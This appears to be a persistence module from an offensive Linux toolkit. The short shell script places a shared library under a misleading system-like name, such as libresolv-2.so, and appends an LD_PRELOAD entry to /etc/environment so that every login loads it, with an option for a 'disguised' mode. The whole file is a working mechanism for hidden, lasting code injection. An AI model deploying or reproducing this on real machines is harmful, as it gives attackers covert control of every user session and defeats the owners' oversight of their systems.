#!/bin/sh
# environment-preload: a preload for every login (pam_env(8),
# /etc/environment)
. "${0%/*}/lib.sh"
only "plain disguised dropped user" "a library has no command line"
l=$(named /usr/local/lib/libenv.so "$lib/libresolv-2.so")
library "$l"
append /etc/environment "LD_PRELOAD=$l"
